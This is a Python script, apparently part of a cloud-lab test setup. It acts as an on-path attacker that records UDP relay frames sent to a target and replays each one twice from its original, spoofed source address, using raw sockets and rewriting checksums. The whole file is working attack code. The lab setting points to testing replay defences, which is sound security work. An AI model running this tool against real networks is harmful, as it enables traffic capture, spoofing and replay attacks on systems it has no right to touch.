# An attacker on the underlay path (run in the router namespace of the
# cloud lab) that keeps frames for later:
#   relay_replay.py record FILE TARGET_IP PORT SECONDS
#       records the relay frames sent to TARGET_IP:PORT for SECONDS;
#   relay_replay.py replay FILE TARGET_IP
#       sends every recorded frame again, twice, from its original source
#       address, to TARGET_IP (the recorded destination or another relay).
import socket, struct, sys, time

def checksum(b):
    if len(b) % 2:
        b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff

mode, path = sys.argv[1], sys.argv[2]
if mode == 'record':
    target, port, secs = sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    sniff.settimeout(0.2)
    frames = []
    end = time.time() + secs
    while time.time() < end and len(frames) < 2000:
        try:
            pkt, info = sniff.recvfrom(65535)
        except socket.timeout:
            continue
        if info[2] == socket.PACKET_OUTGOING:
            continue
        hl = (pkt[0] & 15) * 4
        if pkt[9] != 17 or socket.inet_ntoa(pkt[16:20]) != target:
            continue
        if struct.unpack('!H', pkt[hl+2:hl+4])[0] != port or len(pkt) > 1500:
            continue
        frames.append(bytes(pkt[:struct.unpack('!H', pkt[2:4])[0]]))
    with open(path, 'wb') as f:
        for fr in frames:
            f.write(struct.pack('!H', len(fr)) + fr)
    print('recorded %d frames' % len(frames), flush=True)
else:
    target = sys.argv[3]
    data = open(path, 'rb').read()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    n = 0
    for _ in range(2):
        i = 0
        while i < len(data):
            l = struct.unpack('!H', data[i:i+2])[0]
            f = bytearray(data[i+2:i+2+l])
            i += 2 + l
            hl = (f[0] & 15) * 4
            f[16:20] = socket.inet_aton(target)
            # veth leaves the UDP checksum to be completed (offload): zero
            # it, which IPv4 reads as "no checksum".
            f[hl+6:hl+8] = b'\0\0'
            f[10:12] = b'\0\0'
            f[10:12] = struct.pack('!H', checksum(bytes(f[:hl])))
            raw.sendto(bytes(f), (target, 0))
            n += 1
            time.sleep(0.0005)
    print('replayed %d frames to %s' % (n, target), flush=True)
